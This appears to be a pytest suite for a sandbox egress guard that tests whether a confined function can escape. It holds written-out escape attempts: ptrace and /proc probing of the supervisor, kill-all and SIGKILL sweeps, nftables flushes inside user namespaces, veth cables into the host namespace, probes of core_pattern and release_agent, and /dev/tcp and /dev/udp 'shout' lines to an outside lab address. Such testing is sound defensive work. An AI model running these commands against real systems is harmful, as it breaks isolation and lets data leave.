"""What processes can do to each other: the function to its supervisor, to its guard, and to the function of another run
of the same user; and namespaces, from inside."""

import pytest

import guard
import lab
from fixtures import need_root
from own_files import run

HOST = "v4.example.com"
POLICY = guard.policy(guard.endpoint(HOST))


@pytest.fixture(scope="module", params=["root", "ordinary"])
def guarded(request, world):
    if request.param == "ordinary":
        need_root()
    bench = guard.Bench(world, request.param)
    with bench.session(policy=POLICY) as made:
        yield made
    bench.close()


def nothing_and_still_guarded(session, world, watch, listeners, said=""):
    assert watch.saw(b"shouted") == [] and watch.leaks() == [] and listeners.heard == [], said
    assert session.get(HOST)["status"] == 200, said
    assert session.get("denied.example.com", address=lab.OUTSIDE_V4)["status"] == 403, said


def test_the_supervisor_cannot_be_entered(guarded, world, watch, listeners):
    """The first process of the namespace has had every privilege over it, and a channel to the guard."""

    def enter():
        import ctypes

        libc, could = ctypes.CDLL(None, use_errno=True), []
        if libc.ptrace(16, 1, 0, 0) == 0:
            could.append("attach")
        if libc.ptrace(0x4206, 1, 0, 0) == 0:
            could.append("seize")
        # The numbers of its descriptors may be listed; what they are may not be seen.
        names = ["mem", "environ", "maps", "auxv", "stack", "syscall", "fdinfo/3", "root", "cwd", "exe"]
        for name in names + [f"fd/{n}" for n in range(32)] + [f"map_files/{n}" for n in range(2)]:
            try:
                path = f"/proc/1/{name}"
                os.readlink(path) if os.path.islink(path) else open(path, "rb").read(1)
                could.append(name)
            except OSError:
                pass
        for name in ("net", "user", "mnt", "pid"):
            try:
                if libc.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0) == 0:
                    could.append("ns/" + name)
            except OSError:
                pass
        pidfd = libc.syscall(434, 1, 0)
        could += [f"descriptor {n}" for n in range(32) if pidfd >= 0 and libc.syscall(438, pidfd, n, 0) >= 0]
        if libc.setns(pidfd, 0x40000000 | 0x10000000) == 0:
            could.append("setns by pidfd")
        if libc.syscall(440, pidfd, None, 0, 4, 0) == 0:  # process_madvise
            could.append("advice")
        return could

    assert guarded.do(enter) == []
    nothing_and_still_guarded(guarded, world, watch, listeners)


def test_signals_to_the_supervisor_and_to_everybody(user_bench, world, watch, listeners):
    """Without its supervisor the namespace would have nobody who ends it; kill(-1) is for all that one may reach."""

    def send():
        import signal

        for number in range(1, 65):
            try:
                os.kill(1, number)
            except (OSError, ValueError):
                pass
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        try:
            os.kill(-1, signal.SIGTERM)
        except ProcessLookupError:
            pass  # nobody else there
        if os.fork() == 0:
            os.setsid()
            os._exit(0)
        os.wait()

    with user_bench.session(policy=POLICY) as session:
        session.do(send)
        nothing_and_still_guarded(session, world, watch, listeners)


def test_limits_set_on_the_supervisor(user_bench, world, watch, listeners):
    """prlimit needs only the same user: a supervisor that runs out of something must not leave the way open."""

    def limit():
        import resource

        done = []
        for name in dir(resource):
            if not name.startswith("RLIMIT_") or name == "RLIMIT_CPU":
                continue
            try:
                resource.prlimit(1, getattr(resource, name), (0, 0))
                done.append(name)
            except (OSError, ValueError):
                pass
        return done

    with user_bench.session(policy=POLICY) as session:
        said = session.do(limit)
        nothing_and_still_guarded(session, world, watch, listeners, said)


def test_another_run_of_the_same_user(user_bench, world, watch):
    """Two functions, each under a guard of its own: the one looks for the other, its placeholder and its guard."""

    def look_and_kill(marker):
        import signal

        found = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("environ", "cmdline"):
                try:
                    if marker in open(f"/proc/{pid}/{name}", "rb").read() and int(pid) != os.getpid():
                        found.append((pid, name))
                except OSError:
                    pass
        for pid in range(2, 2000):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                    found.append((pid, "killed"))
                except OSError:
                    pass
        return found

    other = guard.Bench(world, user_bench.user)
    try:
        with user_bench.session(policy=POLICY) as attacker:
            with other.session(policy=POLICY, env={"MARKER": "of-the-other-run"}) as victim:
                assert victim.get(HOST)["status"] == 200
                assert attacker.do(look_and_kill, b"of-the-other-run") == []
                assert victim.get(HOST)["status"] == 200
            assert attacker.get(HOST)["status"] == 200
    finally:
        other.close()


SHOUT = (
    f"echo shouted >/dev/udp/{lab.OUTSIDE_V4}/4444; (echo shouted >/dev/tcp/{lab.OUTSIDE_V4}/4444) & sleep 0.2; kill $!"
)
# What a command tries with namespaces of its own; each ends in a shout.
INSIDE = {
    "a guard of its own, with a policy of its own": "cat >w.yaml <<<'{apiVersion: sallyport.dev/v1alpha1, kind: "
    "EgressPolicy, metadata: {name: x}, spec: {endpoints: [{name: a, host: any, ports: [any], inspection: none}]}}'; "
    f"/run/lab/bin/sallyport run --policy w.yaml -- bash -c '{SHOUT}; curl -sk -m 5 --resolve "
    f"denied.example.com:443:{lab.OUTSIDE_V4} https://denied.example.com/shouted'",
    "a learning guard of its own": f"/run/lab/bin/sallyport run --learn d.yaml -- bash -c '{SHOUT}'",
    "a cable to the namespace around": "unshare -Urn bash -c 'ip link add a type veth peer name b netns 1; "
    f"ip link add a type veth peer name b; ip link set b netns /proc/1/ns/net; {SHOUT}'",
    "a cable the other way": "unshare -Urn sleep 3 & sleep 0.3; ip link add a type veth peer name b netns $!; "
    f"{SHOUT}; wait",
    "rules of its own": f"unshare -Urn bash -c 'ip link set lo up; nft flush ruleset; {SHOUT}'",
    "rules, but no network of its own": f"unshare -Ur bash -c 'nft flush ruleset; ip link set lo down; {SHOUT}'",
    "sixteen user namespaces deep": "n='nft flush ruleset'; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do "
    f"n=\"unshare -Ur -- $n\"; done; $n; {SHOUT}",
    "time": f"unshare -UrT bash -c 'date -s 2001-01-01; {SHOUT}'",
    "control groups": f"unshare -UrCm bash -c 'mkdir cg; mount -t cgroup2 none cg; mount -t cgroup -o net_cls none cg; {SHOUT}'",
    "a /proc of its own": f"unshare -Urmpf --mount-proc bash -c 'ls -l /proc/*/exe; nsenter -t 1 -n true; {SHOUT}'",
    "a sysfs of its own": "mkdir s; unshare -Urmn bash -c 'mount -t sysfs none s; ls s/class/net; echo 1 "
    f">s/class/net/lo/flags; {SHOUT}'",
    "names for network namespaces": "unshare -Urm bash -c 'mount -t tmpfs none /run; ip netns add x; ip netns exec x "
    f"true; ip netns attach y 1; ip netns exec y bash -c \"{SHOUT}\"'",
    "another user": "unshare -U --map-user=0 --setuid 0 nft flush ruleset; unshare -U --map-auto nft flush ruleset; "
    f"{SHOUT}",
    "a cloned name server": "unshare -Urm bash -c 'cp /etc/resolv.conf r; sed -i s/127.0.0.1/"
    f"{lab.RESOLVER}/ r; mount --bind r /etc/resolv.conf; dig +time=1 +tries=1 shouted.example.com TXT; {SHOUT}'",
    "cron, at, systemd, dbus, docker": "echo '* * * * * x' | crontab -; echo x | at now; systemd-run --user x; "
    f"busctl --user list; docker ps; machinectl shell; loginctl; {SHOUT}",
}


@pytest.mark.parametrize("what", INSIDE)
def test_namespaces_of_its_own(guarded, world, watch, listeners, what):
    """Every user may make them, and is root there: over what it made, and nothing else."""
    said = guarded.do(run, f"cd $HOME; {INSIDE[what]}\n{SHOUT}")
    assert "shouted" not in repr(world.dns.questions)
    assert not world.saw("shouted")
    nothing_and_still_guarded(guarded, world, watch, listeners, said)


def test_programs_that_the_kernel_starts_for_others(guarded, world):
    """Some settings name a program that the kernel runs outside of every namespace. They are only opened here, never
    written: in the lab the kernel is the machine's."""

    def try_all():
        import ctypes

        opened = []
        paths = [
            "/proc/sys/kernel/core_pattern",
            "/proc/sys/kernel/modprobe",
            "/proc/sys/kernel/hotplug",
            "/proc/sys/kernel/poweroff_cmd",
            "/proc/sys/kernel/usermodehelper/inheritable",
            "/proc/sys/fs/binfmt_misc/register",
            "/proc/sys/net/ipv4/conf/lo/route_localnet",
            "/proc/sysrq-trigger",
            "/sys/kernel/uevent_helper",
            "/sys/kernel/mm/ksm/run",
            "/sys/module/nf_conntrack/parameters/hashsize",
            "/sys/power/state",
            "/dev/kmsg",
            "/dev/mem",
            "/dev/vhost-vsock",
            "/dev/vhost-net",
            "/dev/ppp",
        ]
        for folder, _, files in os.walk("/sys/fs/cgroup"):
            paths += [os.path.join(folder, name) for name in files if name in ("release_agent", "notify_on_release")]
        for path in paths:
            try:
                os.close(os.open(path, os.O_WRONLY))
                opened.append(path)
            except OSError:
                pass
        libc = ctypes.CDLL(None, use_errno=True)
        calls = {
            "io_uring_setup": (425, 8, ctypes.create_string_buffer(256)),
            "request_key": (249, b"dns_resolver", b"shouted.example.com", b"", 0),
            "open_by_handle_at": (304, -100, ctypes.create_string_buffer(64), 0),
            "finit_module": (313, 0, b"", 0),
            "perf_event_open": (298, ctypes.create_string_buffer(128), -1, 0, -1, 0),
            "sethostname": (170, b"shouted", 7),
            "settimeofday": (164, ctypes.create_string_buffer(16), None),
            "mount": (165, b"none", b"/tmp", b"tmpfs", 0, None),
            "swapon": (167, b"/dev/null", 0),
            "acct": (163, b"/tmp/shouted"),
        }
        for name, (number, *arguments) in calls.items():
            if libc.syscall(number, *arguments) >= 0:
                opened.append(name)
        return opened

    allowed = {"/dev/kmsg"}  # a line in the machine's log, and no more
    assert set(guarded.do(try_all)) <= allowed
    assert "shouted" not in repr(world.dns.questions) and guarded.get(HOST)["status"] == 200


def test_the_clock_is_not_the_functions(guarded, world):
    """With another time, an expired certificate would be good again, and a policy's or a token's end far away."""

    def turn_back():
        import time

        for clock in (time.CLOCK_REALTIME, time.CLOCK_MONOTONIC, time.CLOCK_TAI):
            try:
                time.clock_settime(clock, time.clock_gettime(clock))
                return "could"
            except OSError:
                pass

    assert guarded.do(turn_back) is None
    assert guarded.get("expired.example.com")["status"] in (None, 502, 403)
    assert guarded.get(HOST)["status"] == 200
